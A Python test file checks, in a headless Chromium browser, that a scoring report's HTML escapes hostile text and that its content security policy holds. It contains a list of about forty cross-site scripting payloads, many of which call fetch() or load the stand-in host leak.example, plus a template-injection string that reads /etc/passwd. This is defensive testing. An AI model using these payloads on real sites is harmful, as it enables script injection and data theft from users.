"""A report of hostile text in a real browser: nothing runs, nothing is fetched, and the text is shown as it is."""

import shutil
import subprocess
import threading
from collections.abc import Mapping
from dataclasses import dataclass, field
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from tests.services.scoring.conftest import MadeUpJob

from craft.contracts.stages.kinds import StageKind
from craft.contracts.stages.rows import REPORT_HTML, QuestionRow
from craft_scoring.report.stage import report
from craft_scoring.report.texts import plain_text

pytestmark = pytest.mark.servers

RUN = "document.documentElement.dataset.ran=1;fetch(`http://leak.example/leak`)"
LEAK = "http://leak.example/leak"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT SRC={LEAK}></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={LEAK}>",
    f"<svg onload='{RUN}'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<body onload='{RUN}'>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<iframe src=\"javascript:parent.{RUN}\"></iframe>",
    f"<object data={LEAK}></object>",
    f"<embed src={LEAK}>",
    f"<link rel=stylesheet href={LEAK}>",
    f"<style>@import '{LEAK}';</style>",
    f"</style><style>*{{background:url({LEAK})}}</style>",
    f"<div style=\"background:url('{LEAK}')\">x</div>",
    f"<base href={LEAK}>",
    f"<meta http-equiv=refresh content='0;url={LEAK}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<form action={LEAK}><input autofocus onfocus='{RUN}'></form>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<video><source onerror='{RUN}'></video>",
    f"<audio src={LEAK} onerror='{RUN}'>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<a href=\"javascript:{RUN}\" autofocus>x</a>",
    f"\" onmouseover=\"{RUN}\" x=\"",
    f"' onfocus='{RUN}' autofocus='",
    f"\"><img src=x onerror='{RUN}'>",
    f"</title><script>{RUN}</script>",
    f"</textarea></pre></code></bdi><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f"<template><script>{RUN}</script></template>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ ''.__class__ }}",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
]  # fmt: skip
GROUPS = [PAYLOADS[start : start + 11] for start in range(0, len(PAYLOADS), 11)]


@dataclass
class HostileJob(MadeUpJob):
    """A job in which all texts of users and models are payloads."""

    payloads: list[str] = field(default_factory=list)

    def hostile(self, number: int) -> str:
        return self.payloads[number % len(self.payloads)].replace("\0", "")

    def _row(self, row_id: str, question: str, category: str | None, number: int) -> QuestionRow:
        answers = [self.hostile(number + 1), f"Answer{number}"]
        return QuestionRow(id=row_id, question=f"{self.hostile(number)} {number}", answers=answers, category=category)

    def _reply(self, row: QuestionRow, *, right: bool) -> str:
        answer = (row.answers or [""])[0]
        return f"It is {answer}." if right else f"It is not {answer[::-1]}{self.hostile(len(row.question))}"

    def publish_notes(self) -> None:
        """Publish the payloads as notes and versions, which the report shows one by one."""
        versions = {payload: payload for payload in self.payloads}
        self.publish("rehearsal_set", StageKind.REHEARSAL_SET, {}, notes=self.payloads, versions=versions)


def page_of(folder: Path, payloads: list[str]) -> str:
    """The real report of a job that has the payloads wherever text can be."""
    categories = {payload.replace("\0", ""): 0.5 for payload in payloads}
    job = HostileJob(folder, train=60, held_out=60, categories=categories, resamples=100, payloads=payloads)
    job.build()
    job.publish_notes()
    parameters = job.parameters()
    spec = parameters.job | {"name": payloads[0], "base_model": {"id": payloads[1]}}
    spec["labels"] = {payload: payload for payload in payloads}
    context = job.context()
    report(parameters.model_copy(update={"job": spec}), context)
    return (context.output / REPORT_HTML).read_text(encoding="utf-8")


class Shown(HTMLParser):
    """A page as a browser shows it: its text, its policies, and whether a script ran."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.ran = False
        self.policies: list[str] = []
        self.pieces: list[str] = []
        self._inside = ""

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.pieces).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self._inside = tag
        self.ran = self.ran or (tag == "html" and "data-ran" in given)
        if tag == "meta" and (given.get("http-equiv") or "").lower() == "content-security-policy":
            self.policies.append(given.get("content") or "")

    def handle_data(self, data: str) -> None:
        if self._inside not in {"script", "style"}:
            self.pieces.append(data)


class Site(ThreadingHTTPServer):
    """Serves pages by path. The browser resolves all names to this server."""

    def __init__(self, pages: Mapping[str, str]) -> None:
        self.pages = pages
        self.requested: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        # The browser also sends requests of its own here (for the time, or for updates).
        if self.headers.get("Host", "").partition(":")[0].endswith(".example"):
            self.server.requested.append(self.path)
        page = self.server.pages.get(self.path)
        content = (page or "").encode()
        self.send_response(200 if page else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, format: str, *args: object) -> None:
        """Print nothing."""


@pytest.fixture
def browser() -> str:
    path = shutil.which("chromium")
    if path is None:
        pytest.fail("chromium is missing: .ci/with-browser installs it")
    return path


def opened(browser: str, page: str, profile: Path) -> tuple[Shown, list[str]]:
    """The page as the browser shows it some time after loading, and the paths of its other requests."""
    site = Site({"/page": page})
    thread = threading.Thread(target=site.serve_forever, daemon=True)
    thread.start()
    try:
        port = site.server_address[1]
        command = [
            *(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
            *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
            *(f"--user-data-dir={profile}", f"--host-resolver-rules=MAP * 127.0.0.1:{port}"),
            *("--virtual-time-budget=3000", "--dump-dom", f"http://report.example:{port}/page"),
        ]
        dumped = subprocess.run(command, capture_output=True, timeout=90, check=True).stdout.decode()
    finally:
        site.shutdown()
        site.server_close()
        thread.join()
    shown = Shown()
    shown.feed(dumped)
    return shown, [path for path in site.requested if path not in {"/page", "/favicon.ico"}]


def test_forty_payloads() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 40
    assert sorted(payload for group in GROUPS for payload in group) == sorted(PAYLOADS)


@pytest.mark.parametrize("number", range(len(GROUPS)))
def test_hostile_text_is_shown_and_does_nothing(browser: str, tmp_path: Path, number: int) -> None:
    page = page_of(tmp_path / "job", GROUPS[number])
    shown, requested = opened(browser, page, tmp_path / "profile")
    assert not shown.ran
    assert requested == []
    assert [policy.startswith("default-src 'none'; style-src 'unsafe-inline'") for policy in shown.policies] == [True]
    assert [payload for payload in GROUPS[number] if plain_text(payload) not in shown.text] == []


@pytest.mark.parametrize("number", range(len(GROUPS)))
def test_unescaped_the_policy_alone_still_stops_everything(browser: str, tmp_path: Path, number: int) -> None:
    policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; "
    policy += "base-uri 'none'; form-action 'none'\">"
    # A policy does not stop a page from redirecting its reader: only escaping does.
    payloads = [payload for payload in GROUPS[number] if "refresh" not in payload]
    shown, requested = opened(browser, f"<!doctype html><html><head>{policy}</head>{''.join(payloads)}", tmp_path)
    assert not shown.ran
    assert requested == []


@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[4], PAYLOADS[6], PAYLOADS[22]])
def test_a_page_that_lets_text_be_markup_would_be_noticed(browser: str, tmp_path: Path, payload: str) -> None:
    shown, requested = opened(browser, f"<!doctype html><html><body><p>{payload}</p>", tmp_path)
    assert shown.ran
    assert "/leak" in requested
